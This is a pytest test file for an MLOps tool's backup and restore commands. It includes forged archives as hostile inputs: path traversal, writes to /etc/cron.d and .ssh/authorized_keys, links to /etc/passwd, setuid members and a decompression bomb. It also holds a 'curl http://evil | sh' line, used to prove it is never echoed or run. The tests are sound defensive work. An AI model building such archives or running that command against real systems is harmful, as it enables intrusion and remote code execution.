"""A home is backed up, wiped and restored: the same champion, answers, trail, runs and log; and nothing lands that its own list does not vouch for."""
import gzip
import hashlib
import io
import json
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import tarfile
import threading
import time
from contextlib import closing
from pathlib import Path

import numpy as np
import pytest

from fashion_mlops.cli import main
from fashion_mlops.core import WorkflowError, write_json
from fashion_mlops.operations import archive, backup, restore
from fashion_mlops.service.audit_trail import note_change, read_trail, trail_path
from fashion_mlops.service import signing
from fashion_mlops.service.deployment import open_champion, serving_folder, set_champion
from fashion_mlops.service.keys import make_key
from fashion_mlops.service.signing import make_signing_key

from packs import place_version
from running import Running


def quiet(line): pass


@pytest.fixture(scope="session")
def small_home(tmp_path_factory) -> Path:
    "A home with a champion that answers, a trail, keys, a log and a store; made once, and copied."
    folder = tmp_path_factory.mktemp("small_home")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("FASHION_MLOPS_HOME", str(folder))
        place_version("shades", 3)
        set_champion("shades", 3)
        note_change("shades", "promoted", 3, None, "the gate let it pass")
        make_key("shop")
    for path in ("data/serving/shades/log/2026-11-27/predictions-1-2.parquet", "mlruns/shades/r1/artifacts/a.txt"):
        (folder/path).parent.mkdir(parents=True)
        (folder/path).write_text("a")
    with closing(sqlite3.connect(folder/"mlflow.db")) as store, store:
        store.executescript("pragma journal_mode = wal; create table registered_model_aliases (name, alias, version);"
                            "create table runs (run_uuid, artifact_uri, status, end_time);"
                            "insert into registered_model_aliases values ('shades', 'champion', 3)")
    return folder


@pytest.fixture
def here(small_home, tmp_path, monkeypatch) -> Path:
    "A copy of it, which is the home of this process."
    shutil.copytree(small_home, tmp_path/"home")
    with closing(sqlite3.connect(tmp_path/"home"/"mlflow.db")) as store, store:
        store.execute("insert into runs values ('r1', ?, 'RUNNING', null)", ((tmp_path/"home"/"mlruns"/"shades"/"r1"/"artifacts").as_uri(),))
    monkeypatch.setenv("FASHION_MLOPS_HOME", str(tmp_path/"home"))
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    return tmp_path/"home"


def contents(folder: Path) -> dict[str, bytes]:
    "What a home holds, without its store, which is rewritten."
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in sorted(folder.rglob("*"))
            if path.is_file() and not path.name.startswith((".", "mlflow.db")) and not path.name.endswith(".lock")}


def test_a_home_that_was_wiped_comes_back_in_its_place(here, tmp_path, capsys):
    before, file = contents(here), tmp_path/"b.tar.gz"
    assert main(["backup", str(file)]) == 0
    assert file.stat().st_mode & 0o777 == 0o600
    key = re.search(r"a restore asks for --trust (\w{16})", capsys.readouterr().out)[1] # what one is to keep
    shutil.rmtree(here)
    assert main(["restore", str(file)]) == 2 and not here.exists()
    assert f"fashion-mlops restore {file} --trust {key}" in capsys.readouterr().err
    assert main(["restore", str(file), "--trust", key]) == 0
    said = capsys.readouterr().out
    assert "v3 serves and answers what it was packed with; 1 change in the trail, none missing" in said
    assert "1 run of MLflow had not ended" in said
    assert contents(here) == before and open_champion("shades")[0].version == 3
    assert (here/"data"/"keys").stat().st_mode & 0o777 == 0o700
    assert {name: (here/"data"/"keys"/name).stat().st_mode & 0o777 for name in ("signing.pem", "service.json")} == {"signing.pem": 0o600, "service.json": 0o600}


def test_in_another_place_the_store_names_its_files_there(here, tmp_path):
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    made = restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"an other home", say=quiet)
    with closing(sqlite3.connect(tmp_path/"an other home"/"mlflow.db")) as store:
        place, status = store.execute("select artifact_uri, status from runs").fetchone()
    assert made["addresses"] == 1 and status == "KILLED"
    assert place == (tmp_path/"an other home"/"mlruns"/"shades"/"r1"/"artifacts").as_uri()
    assert contents(tmp_path/"an other home") == contents(here)


def test_without_this_project_tar_unpacks_it(here, tmp_path):
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    subprocess.run(["tar", "xzf", tmp_path/"b.tar.gz", "-C", tmp_path], check=True)
    assert (tmp_path/"data"/"keys"/"signing.pem").read_bytes() == (here/"data"/"keys"/"signing.pem").read_bytes()
    assert json.loads((tmp_path/"manifest.json").read_text())["datasets"]["shades"]["serves"] == 3


# --- what is handed in as a backup ---

def listed(**content: bytes) -> list[dict]:
    return [{"path": path, "size": len(held), "sha256": hashlib.sha256(held).hexdigest(), "private": False, "modified": 0} for path, held in content.items()]

def forged(path: Path, files: list[dict], members: list[tuple[tarfile.TarInfo, bytes]], **said) -> Path:
    "A file that says one thing and holds another."
    manifest = json.dumps({"format": archive.FORMAT, "version": 1, "time": "now", "homes": ["/x"], "datasets": {}, "left_out": [], "fault": "", "files": files} | said).encode()
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for member, held in members: tar.addfile(member, io.BytesIO(held))
    start = archive.tar_header("manifest.json", len(manifest), True) + manifest + bytes(-len(manifest) % 512)
    path.write_bytes(gzip.compress(start + stream.getvalue()))
    return path

def member(name: str, size: int = 0, kind: bytes = tarfile.REGTYPE, **more) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.size, info.type = size, kind
    for key, value in more.items(): setattr(info, key, value)
    return info

HELD = b"rows"
ONE = listed(**{"mlflow.db": HELD})
HOSTILE = {
    "an absolute name": (listed(**{"/etc/cron.d/x": HELD}), [(member("/etc/cron.d/x", 4), HELD)], "no home has"),
    "a name that leads out": (listed(**{"data/../../x": HELD}), [(member("data/../../x", 4), HELD)], "no home has"),
    "a name elsewhere": (listed(**{".ssh/authorized_keys": HELD}), [(member(".ssh/authorized_keys", 4), HELD)], "no home has"),
    "a name outside its list": (ONE, [(member("../x", 4), HELD)], "not what its list says"),
    "a link": (ONE, [(member("mlflow.db", 0, tarfile.SYMTYPE, linkname="/etc/passwd"), b"")], "not what its list says"),
    "a hard link": (ONE, [(member("mlflow.db", 0, tarfile.LNKTYPE, linkname="/etc/passwd"), b"")], "not what its list says"),
    "a device": (ONE, [(member("mlflow.db", 0, tarfile.CHRTYPE, devmajor=1, devminor=3), b"")], "not what its list says"),
    "a pipe": (ONE, [(member("mlflow.db", 0, tarfile.FIFOTYPE), b"")], "not what its list says"),
    "a program": (ONE, [(member("mlflow.db", 4, mode=0o4755), HELD)], "not what its list says"),
    "one name twice": (ONE + ONE, [(member("mlflow.db", 4), HELD)]*2, "one name twice"),
    "a file that is a folder": (listed(**{"data/a": HELD, "data/a/b": HELD}), [], "one name twice"),
    "a size that lies": ([ONE[0] | {"size": 3}], [(member("mlflow.db", 4, mode=0o644), HELD)], "not what its list says"),
    "another content": (ONE, [(member("mlflow.db", 4, mode=0o644), b"ROWS")], "not what its list says"),
    "one more file": (ONE, [(member("mlflow.db", 4, mode=0o644), HELD), (member("data/x", 4, mode=0o644), HELD)], "more than its list says"),
    "one file less": (ONE + listed(**{"data/x": HELD}), [(member("mlflow.db", 4, mode=0o644), HELD)], "not what its list says"),
    "an endless size": ([ONE[0] | {"size": 10**30}], [], "no home has"),
    "a size that is none": ([ONE[0] | {"size": True}], [], "no home has"),
    "no files": ([], [], "no files"),
}

@pytest.mark.parametrize("case", HOSTILE)
def test_what_lies_is_refused_and_nothing_lands(case, tmp_path):
    files, members, words = HOSTILE[case]
    file = forged(tmp_path/"b.tar.gz", files, members)
    with pytest.raises(WorkflowError, match=words): restore.restore_home(file, tmp_path/"out", say=quiet)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["b.tar.gz"]

@pytest.mark.parametrize("said, words", [({"version": 2}, "reads up to 1"), ({"version": 0}, "reads up to 1"), ({"version": "1"}, "reads up to 1"), ({"format": "a zip"}, "no backup")])
def test_forms_of_the_future_are_refused_in_words(said, words, tmp_path):
    file = forged(tmp_path/"b.tar.gz", ONE, [(member("mlflow.db", 4, mode=0o644), HELD)], **said)
    with pytest.raises(WorkflowError, match=words): restore.restore_home(file, tmp_path/"out", say=quiet)

def test_a_bomb_ends_where_the_list_ends(tmp_path):
    "A gigabyte of zeros behind a list of four bytes."
    file = forged(tmp_path/"b.tar.gz", ONE, [(member("mlflow.db", 4, mode=0o644), HELD)])
    with file.open("ab") as more: more.write(gzip.compress(bytes(32_000_000), 1)*32)
    began = time.process_time()
    with pytest.raises(WorkflowError, match="more than its list says"): archive.read_archive(file)
    assert time.process_time() - began < 0.5

def test_other_files_are_no_backups(tmp_path):
    for name, held in {"empty": b"", "text": b"hello", "zip": b"PK\3\4"*100, "gzip": gzip.compress(b"hello"*200), "tar": bytes(10240), "deep": gzip.compress(
            archive.tar_header("manifest.json", 200_000, True) + b"["*200_000 + bytes(-200_000 % 512))}.items():
        (tmp_path/name).write_bytes(held)
        with pytest.raises(WorkflowError, match="no backup|cut off|damaged"): archive.read_archive(tmp_path/name)


# --- who has made it ---

def test_a_backup_with_other_keys_is_nobodys(here, tmp_path, monkeypatch, capsys):
    "Packs, trail and keys made anew elsewhere, every digest right: the home that is there does not take it for its own."
    shutil.copytree(here, tmp_path/"theirs")
    for path in (tmp_path/"theirs"/"data"/"keys").iterdir(): path.unlink()
    monkeypatch.setenv("FASHION_MLOPS_HOME", str(tmp_path/"theirs"))
    make_key("intruder", "admin")
    signing.signing_key()
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    monkeypatch.setenv("FASHION_MLOPS_HOME", str(here))
    before = contents(here)
    assert main(["restore", str(tmp_path/"b.tar.gz"), "--over"]) == 2
    assert "for which nothing here vouches" in capsys.readouterr().err and contents(here) == before
    assert main(["restore", str(tmp_path/"b.tar.gz"), "--over", "--unsigned"]) == 2 # it is signed, by somebody else

def test_a_signature_that_was_taken_off_or_is_of_something_else_is_seen(here, tmp_path):
    said = backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    for number, change in enumerate([{"signature": None}, {"homes": ["/elsewhere"]}, {"signature": said["signature"] | {"key": "0"*16}}]):
        file = changed(tmp_path/"b.tar.gz", tmp_path/f"{number}.tar.gz", change)
        with pytest.raises(WorkflowError, match="signed by nobody" if not number else "changed after it was signed"):
            restore.restore_home(file, tmp_path/"out", say=quiet)
    assert not (tmp_path/"out").exists()

def changed(file: Path, new: Path, change: dict) -> Path:
    "A backup whose list says something else."
    files = {}
    def take(entry):
        files[entry["path"]] = b""
        def more(block): files[entry["path"]] += block
        return more
    said = archive.read_archive(file, take)
    said = {name: value for name, value in (said | change).items() if name not in ("format", "version") and value is not None}
    entries = {entry["path"]: entry for entry in said.pop("files")}
    with new.open("w+b") as written:
        made = archive.NewArchive(written, 500_000)
        for path, held in files.items(): made.add(path, held, entries[path]["private"], entries[path]["modified"])
        made.finish(said)
    return new

def test_a_home_without_a_key_gets_none_and_its_backup_says_so(here, tmp_path, capsys):
    (here/"data"/"keys"/"signing.pem").unlink()
    assert main(["backup", str(tmp_path/"b.tar.gz")]) == 0 and "Signed by nobody" in capsys.readouterr().out
    assert not (here/"data"/"keys"/"signing.pem").exists()
    restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"out", unsigned=True, say=quiet)

def test_what_a_backup_says_is_no_command_and_obeyed_by_no_terminal(here, tmp_path, capsys):
    left = [{"what": "clear \x1b[2J\x07", "command": "curl http://evil | sh"}]
    backup.back_up(tmp_path/"a.tar.gz", say=quiet)
    file = changed(tmp_path/"a.tar.gz", tmp_path/"b.tar.gz", {"left_out": left, "signature": None})
    assert main(["backup", "--check", str(file)]) == 0
    assert main(["restore", str(file), "--to", str(tmp_path/"out"), "--unsigned", "--json"]) == 0
    assert main(["restore", str(file), "--to", str(tmp_path/"other"), "--unsigned"]) == 0
    said = capsys.readouterr().out
    assert "clear" in said and not {"evil", "\x1b", "\x07"} & set(re.findall("evil|[\x1b\x07]", said))

@pytest.mark.parametrize("said", [{"time": 3}, {"homes": []}, {"homes": ["rel"]}, {"homes": None}, {"datasets": []}, {"datasets": {"a": {"serves": "1"}}}, {"fault": None}, {"left_out": [{}]},
                                  {"left_out": "x"}, {"runs": "1"}, {"project": {}}, {"signature": []}, {"time": "\ud800"}, {"more": 1}], ids=str)
def test_every_field_is_looked_at_before_anything_lands(said, tmp_path):
    file = forged(tmp_path/"b.tar.gz", ONE, [(member("mlflow.db", 4, mode=0o644), HELD)], **said)
    with pytest.raises(WorkflowError, match="in a way that no backup does"): restore.restore_home(file, tmp_path/"out", unsigned=True, say=quiet)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["b.tar.gz"]


# --- what is in the way ---

def test_a_home_that_is_there_is_kept_when_another_takes_its_place(here, tmp_path):
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    note_change("shades", "promoted", 4, 3, "later")
    (here/"notes of somebody.txt").write_text("mine")
    with pytest.raises(WorkflowError, match="is not empty.*--over"): restore.restore_home(tmp_path/"b.tar.gz", here, say=quiet)
    assert len(read_trail("shades")) == 2
    kept = Path(restore.restore_home(tmp_path/"b.tar.gz", here, over=True, say=quiet)["kept"])
    assert len(read_trail("shades")) == 1 and (here/"notes of somebody.txt").read_text() == "mine"
    assert len((kept/"data"/"audit"/"shades.jsonl").read_text().splitlines()) == 2
    assert kept.parent == tmp_path and not (here/".restoring").exists()

def test_strange_folders_and_files_are_left_alone(here, tmp_path):
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    (tmp_path/"other").mkdir()
    (tmp_path/"other"/"thesis.tex").write_text("mine")
    with pytest.raises(WorkflowError, match="thesis.tex"): restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"other", say=quiet)
    with pytest.raises(WorkflowError, match="is a file"): restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"b.tar.gz", say=quiet)
    assert [path.name for path in (tmp_path/"other").iterdir()] == ["thesis.tex"]

def test_into_a_clone_only_what_is_a_homes_is_put(here, tmp_path):
    "Its own descriptions stay; its notebooks are not touched."
    (here/"data"/"datasets").mkdir()
    (here/"data"/"datasets"/"shades.yaml").write_text("of the backup")
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    clone = tmp_path/"clone"
    for path, text in {"settings.ini": "lib_name = fashion_mlops\n", "nbs/01_data.ipynb": "{}", "data/README.md": "read me", "data/datasets/quakes.yaml": "own", "reports/README.md": "read me"}.items():
        (clone/path).parent.mkdir(parents=True, exist_ok=True)
        (clone/path).write_text(text)
    restore.restore_home(tmp_path/"b.tar.gz", clone, say=quiet)
    assert contents(clone) == contents(here) | {"settings.ini": b"lib_name = fashion_mlops\n", "nbs/01_data.ipynb": b"{}", "data/README.md": b"read me",
                                                "data/datasets/quakes.yaml": b"own", "reports/README.md": b"read me"}
    (clone/"data"/"datasets"/"shades.yaml").write_text("changed here")
    for top in ("mlruns", "data/serving", "data/audit", "data/keys", "mlflow.db"): shutil.rmtree(clone/top) if (clone/top).is_dir() else (clone/top).unlink()
    with pytest.raises(WorkflowError, match="data/datasets/shades.yaml"): restore.restore_home(tmp_path/"b.tar.gz", clone, say=quiet)
    restore.restore_home(tmp_path/"b.tar.gz", clone, over=True, say=quiet)
    assert (clone/"data"/"datasets"/"shades.yaml").read_text() == "of the backup" and (clone/"data"/"datasets"/"quakes.yaml").read_text() == "own"

HOLDS = {"a pipeline": "f = open('data/.run.lock', 'a'); fcntl.flock(f, fcntl.LOCK_EX)",
         "a service": "from fashion_mlops.service.deployment import mark_in_service; assert mark_in_service('shades')",
         "MLflow": "import sqlite3; c = sqlite3.connect('mlflow.db'); c.execute('select * from runs').fetchall()"}

@pytest.mark.parametrize("who", HOLDS)
def test_a_home_at_work_is_not_restored_over(who, here, tmp_path):
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    code = f"import fcntl, sys; {HOLDS[who]}; print('at work', flush=True); sys.stdin.read()"
    with subprocess.Popen([sys.executable, "-c", code], cwd=here, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout.readline() == "at work\n"
        with pytest.raises(WorkflowError, match={"a pipeline": "A pipeline.*", "a service": "A service.*", "MLflow": ""}[who] + f"process {process.pid} .*End it"):
            restore.restore_home(tmp_path/"b.tar.gz", here, over=True, say=quiet)
        process.stdin.close()
    restore.restore_home(tmp_path/"b.tar.gz", here, over=True, say=quiet)

def test_too_little_room_is_said_before_anything_is_written(here, tmp_path, monkeypatch):
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    monkeypatch.setattr(shutil, "disk_usage", lambda folder: type("Usage", (), {"free": 1_000_000})())
    with pytest.raises(WorkflowError, match="1.0 MB free.*Make room"): backup.back_up(tmp_path/"c.tar.gz", say=quiet)
    with pytest.raises(WorkflowError, match="1.0 MB free.*Make room"): restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"out", say=quiet)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["b.tar.gz", "home"]


# --- what is in it, and what is not ---

def test_without_keys_packs_open_and_nothing_private_is_in_it(here, tmp_path, capsys):
    assert main(["backup", str(tmp_path/"b.tar.gz"), "--without-keys"]) == 0
    assert "fashion-mlops keys add" in capsys.readouterr().out
    restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"out", say=quiet)
    assert [path.name for path in (tmp_path/"out"/"data"/"keys").iterdir()] == ["signing.pub"]
    secret = (here/"data"/"keys"/"signing.pem").read_bytes().splitlines()[1]
    assert secret not in gzip.decompress((tmp_path/"b.tar.gz").read_bytes())

def test_a_store_elsewhere_is_named_with_its_command(here, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "postgresql://me:geheim@db.example:5432/mlflow")
    assert main(["backup", str(tmp_path/"b.tar.gz"), "--json"]) == 0
    said = json.loads(capsys.readouterr().out)
    assert [each["command"] for each in said["left_out"]] == ["pg_dump --format=custom --file=mlflow.dump --dbname='postgresql://db.example:5432/mlflow'"]
    held = gzip.decompress((tmp_path/"b.tar.gz").read_bytes())
    assert b"geheim" not in held and b"mlflow.db" not in held.split(b"\0")

def test_only_what_was_asked_for_besides(here, tmp_path):
    for path in ("data/artifacts/shades/01_data.json", "data/raw/shades/rows.csv", "reports/shades/01_data.html", "data/serving/shades/jobs/1/upload", "data/.run/x.json"):
        (here/path).parent.mkdir(parents=True, exist_ok=True)
        (here/path).write_text("x")
    first = {each["path"] for each in backup.back_up(tmp_path/"b.tar.gz", say=quiet)["files"]}
    more = {each["path"] for each in backup.back_up(tmp_path/"c.tar.gz", with_data=True, with_reports=True, say=quiet)["files"]}
    assert more - first == {"data/artifacts/shades/01_data.json", "data/raw/shades/rows.csv", "reports/shades/01_data.html"}
    assert not any("lock" in path or "jobs" in path or "/." in path for path in more)

def test_a_trail_that_was_changed_is_said_when_it_is_backed_up_and_when_it_comes_back(here, tmp_path, capsys):
    trail_path("shades").write_bytes(trail_path("shades").read_bytes().replace(b"gate", b"cat!"))
    assert main(["backup", str(tmp_path/"b.tar.gz")]) == 1
    assert main(["restore", str(tmp_path/"b.tar.gz"), "--to", str(tmp_path/"out")]) == 2
    assert not (tmp_path/"out").exists()
    assert main(["restore", str(tmp_path/"b.tar.gz"), "--to", str(tmp_path/"out"), "--even-so"]) == 1
    assert capsys.readouterr().out.count("is not the one that was written") == 2

def test_who_holds_a_lock_is_waited_for_and_not_for_ever(here, tmp_path):
    from fashion_mlops.operations.one_moment import waited_lock
    with waited_lock(serving_folder("shades")/".deploy.lock", 0, "a test"):
        with pytest.raises(WorkflowError, match="A deployment holds"): backup.back_up(tmp_path/"b.tar.gz", wait=0.1, say=quiet)
    assert [path.name for path in tmp_path.iterdir()] == ["home"]
    backup.back_up(tmp_path/"b.tar.gz", wait=0, say=quiet)

def test_a_folder_of_backups_keeps_the_newest(here, tmp_path, monkeypatch, capsys):
    (tmp_path/"all").mkdir()
    (tmp_path/"all"/"fashion_mlops-20200101T000000Z.tar.gz").write_text("no backup")
    for day in (1, 2, 3):
        backup.back_up(tmp_path/"all"/f"fashion_mlops-2025010{day}T000000Z.tar.gz", say=quiet)
    assert main(["backup", str(tmp_path/"all"), "--keep", "2", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["removed"] == ["fashion_mlops-20250102T000000Z.tar.gz", "fashion_mlops-20250101T000000Z.tar.gz"]
    assert len(list((tmp_path/"all").iterdir())) == 3

def test_it_is_checked_without_being_restored(here, tmp_path, capsys):
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    assert main(["backup", "--check", str(tmp_path/"b.tar.gz")]) == 0 and "Whole" in capsys.readouterr().out
    held = bytearray((tmp_path/"b.tar.gz").read_bytes())
    held[-400] ^= 1
    (tmp_path/"b.tar.gz").write_bytes(held)
    assert main(["backup", "--check", str(tmp_path/"b.tar.gz")]) == 2 and "damaged" in capsys.readouterr().err

def test_a_folder_that_may_not_be_entered_is_refused_and_not_skipped(here, tmp_path, monkeypatch, capsys):
    "As another user: the system's own answers, which root would not get."
    (here/"data"/"artifacts"/"shades").mkdir(parents=True)
    real, closed = os.scandir, ""
    def scandir(folder):
        if str(folder) == str(here/closed): raise PermissionError(13, "Permission denied", str(folder))
        return real(folder)
    monkeypatch.setattr(os, "scandir", scandir)
    for closed in ("data/serving/shades/v3", "mlruns/shades/r1", "data/keys", "data/serving"):
        assert main(["backup", str(tmp_path/"b.tar.gz")]) == 2
        said = capsys.readouterr().err
        assert f"{here/closed} may not be read by this user" in said and f"as {here.owner()}, whose it is" in said
        assert [path.name for path in tmp_path.iterdir()] == ["home"]
    closed = "data/artifacts/shades" # which is not asked for
    assert main(["backup", str(tmp_path/"b.tar.gz")]) == 0

def test_of_two_backups_in_one_second_each_gets_its_name(here, tmp_path):
    for _ in range(2): assert main(["backup", f"{tmp_path}/all/", "--json"]) == 0
    assert len(backup.dated_backups(tmp_path/"all")) == 2

def test_a_home_whose_disk_is_full_is_backed_up_to_another(here, tmp_path, monkeypatch):
    "The store cannot be opened there, since SQLite writes beside what it reads."
    from fashion_mlops.operations import one_moment
    def full(store, target): raise sqlite3.OperationalError("disk I/O error")
    monkeypatch.setattr(one_moment, "_copied_by_sqlite", full)
    with closing(sqlite3.connect(here/"mlflow.db")) as store: # open: its log is not yet in the file
        store.execute("insert into runs values ('r2', '', 'FINISHED', null)")
        store.commit()
        assert backup.back_up(tmp_path/"b.tar.gz", say=quiet)["runs"] == 2
    (here/"mlflow.db").write_bytes(b"no store"*100)
    monkeypatch.undo()
    monkeypatch.setenv("FASHION_MLOPS_HOME", str(here))
    with pytest.raises(WorkflowError, match="mlflow.db cannot be read"): backup.back_up(tmp_path/"c.tar.gz", say=quiet)

def test_a_folder_that_a_store_cannot_stand_in_is_refused_first(here, tmp_path, capsys):
    assert main(["backup", str(tmp_path/"b.tar.gz")]) == 0
    for name in ("a %41 b", "what?"):
        assert main(["restore", str(tmp_path/"b.tar.gz"), "--to", str(tmp_path/name)]) == 2
        assert "Rename the folder" in capsys.readouterr().err and not (tmp_path/name).exists()


# --- names, keys, packs ---

def test_what_a_backup_calls_done_a_restore_accepts(here, tmp_path, capsys):
    "Names as people and their programs give them; one that is no text is said, and left out."
    odd = ["Screen\u202fshot.png", "a\tb", "a\nb", "\u200b", "n\u00a0b", "x/"*600 + "y", " ", "ä"*120, "~", "-rf"]
    for name in odd:
        (here/"mlruns"/"shades"/name).parent.mkdir(parents=True, exist_ok=True)
        (here/"mlruns"/"shades"/name).write_text("a")
    assert main(["backup", str(tmp_path/"b.tar.gz")]) == 0
    assert main(["backup", "--check", str(tmp_path/"b.tar.gz")]) == 0
    restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"out", say=quiet)
    assert contents(tmp_path/"out") == contents(here)
    subprocess.run(["tar", "xzf", tmp_path/"b.tar.gz", "-C", tmp_path], check=True)
    (here/"mlruns"/os.fsdecode(b"\xff.txt")).write_text("a")
    capsys.readouterr()
    assert main(["backup", str(tmp_path/"c.tar.gz")]) == 1 and r"1 file with a name that is no UTF-8" in capsys.readouterr().out
    assert main(["restore", str(tmp_path/"c.tar.gz"), "--to", str(tmp_path/"other")]) == 0

def test_a_backup_is_read_back_before_it_has_a_name(here, tmp_path, monkeypatch):
    "A disk that forgets."
    real = os.fsync
    def fsync(number):
        if os.path.basename(os.readlink(f"/proc/self/fd/{number}")) == "backup": os.ftruncate(number, os.fstat(number).st_size - 30)
        return real(number)
    monkeypatch.setattr(os, "fsync", fsync)
    with pytest.raises(WorkflowError, match="cut off"): backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    assert [path.name for path in tmp_path.iterdir()] == ["home"]

def test_keys_that_a_cluster_mounts_are_in_it(here, tmp_path):
    "A projection: links to a folder that is exchanged as a whole."
    keys = here/"data"/"keys"
    kept = {path.name: path.read_bytes() for path in keys.iterdir() if path.is_file() and path.suffix != ".lock"}
    (keys/"..2026").mkdir()
    for name in kept: (keys/name).rename(keys/"..2026"/name)
    (keys/"..data").symlink_to("..2026")
    for name in kept: (keys/name).symlink_to(f"..data/{name}")
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"out", say=quiet)
    assert {path.name: path.read_bytes() for path in (tmp_path/"out"/"data"/"keys").iterdir()} == kept

def test_packs_are_read_when_the_locks_are_let_go(here, tmp_path, monkeypatch):
    "Whoever promotes waits for small files; a pack that is replaced meanwhile is noticed."
    from fashion_mlops.operations.one_moment import nothing_changes
    real, seen = backup._added, []
    def added(archive, base, path, held={}):
        if path.endswith(".onnx"):
            with nothing_changes(base, time.monotonic()): seen.append(path) # nobody holds them
        return real(archive, base, path, held)
    monkeypatch.setattr(backup, "_added", added)
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    assert seen
    def replaced(archive, base, path, held={}):
        if path.endswith(".onnx"): write_json(base/"data"/"serving"/"shades"/"v3"/"signature.json", {})
        return real(archive, base, path, held)
    monkeypatch.setattr(backup, "_added", replaced)
    with pytest.raises(WorkflowError, match="was replaced while it was read"): backup.back_up(tmp_path/"c.tar.gz", say=quiet)
    assert not (tmp_path/"c.tar.gz").exists()

def test_exports_are_made_again(here, tmp_path):
    (here/"data"/"bento"/"shades"/"v3").mkdir(parents=True)
    (here/"data"/"bento"/"shades"/"v3"/"service.py").write_text("a")
    said = backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    assert not [each for each in said["files"] if "bento" in each["path"]] and "data/bento" in said["left_out"][0]["what"]


# --- killed ---

def killed_when(act, name: str, count: int) -> int:
    "Run something in a child that is killed without warning at the nth call of a function of `os`."
    if child := os.fork(): return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    real, left = getattr(os, name), [count]
    def call(*words, **options):
        left[0] -= 1
        if left[0] < 0: os.kill(os.getpid(), signal.SIGKILL)
        return real(*words, **options)
    setattr(os, name, call)
    try: act()
    finally: os._exit(0)

def test_a_killed_backup_leaves_nothing_that_the_next_does_not_remove(here, tmp_path):
    file = tmp_path/"all"/"b.tar.gz"
    for name in ("fstat", "fsync", "replace"):
        assert killed_when(lambda: backup.back_up(file, say=quiet), name, 0) == -signal.SIGKILL
        assert not file.exists() and len(list(file.parent.iterdir())) == 1
    backup.back_up(file, say=quiet)
    assert [path.name for path in file.parent.iterdir()] == ["b.tar.gz"]

def test_a_killed_restore_has_happened_or_has_not(here, tmp_path, monkeypatch):
    "Killed at every step of the way into a home that is there; the next one finishes it or begins anew."
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    note_change("shades", "promoted", 4, 3, "later")
    old, ends = contents(here), set()
    monkeypatch.setattr(os, "sync", lambda: None) # of a machine that goes on running
    def again(): restore.restore_home(tmp_path/"b.tar.gz", here, over=True, say=quiet)
    for count in range(40):
        if killed_when(again, "rename", count) == 0: break
        try: again()
        except WorkflowError as error: assert "it is finished now" in str(error)
        assert len(read_trail("shades")) == 1 and not (here/".restoring").exists()
        kept = [path for path in tmp_path.glob("home.before-*")]
        assert len(kept) == 1 and contents(kept[0]) == old
        ends.add(count)
        for place in (here, kept[0]): shutil.move(place, tmp_path/f"{place.name} {count}")
        shutil.move(tmp_path/f"{kept[0].name} {count}", here)
    assert len(ends) > 10

def test_a_restore_that_has_happened_is_not_finished_a_second_time(here, tmp_path, monkeypatch):
    "Killed while it tidies up, when all but its plan was gone; what a pipeline has written since stays where it is."
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    (tmp_path/"out"/"data"/"artifacts"/".old").mkdir(parents=True) # empty, but there
    removed = shutil.rmtree
    def cut_off(path, *words, **options):
        if Path(path).name != ".restoring": return removed(path, *words, **options)
        for part in Path(path).iterdir():
            if part.name != "landing.json": removed(part) if part.is_dir() else part.unlink()
        os._exit(9)
    if not (child := os.fork()):
        shutil.rmtree = cut_off
        try: restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"out", say=quiet)
        finally: os._exit(1)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 9
    (tmp_path/"out"/"data"/"artifacts").mkdir(exist_ok=True)
    (tmp_path/"out"/"data"/"artifacts"/"new.json").write_text("of a pipeline")
    with pytest.raises(WorkflowError, match="is not empty"): restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"out", say=quiet)
    assert (tmp_path/"out"/"data"/"artifacts"/"new.json").read_text() == "of a pipeline"

@pytest.fixture
def half(here, tmp_path) -> Path:
    "A home into which a restore has got half way."
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    def again(): restore.restore_home(tmp_path/"b.tar.gz", here, over=True, say=quiet)
    assert killed_when(again, "rename", 4) == -signal.SIGKILL
    return here

@pytest.mark.parametrize("words", [["keys", "add", "more"], ["signing", "show"], ["serve", "--dataset", "shades"], ["backup", "x.tar.gz"], ["traffic", "champion", "--dataset", "shades", "--reason", "x"],
                                   ["rollback", "--dataset", "shades", "--reason", "x"], ["deploy", "--dataset", "shades"], ["run", "--dataset", "synthetic", "--profile", "smoke"]], ids=" ".join)
def test_half_a_home_is_no_home_and_every_command_says_how_it_is_finished(words, half, capsys):
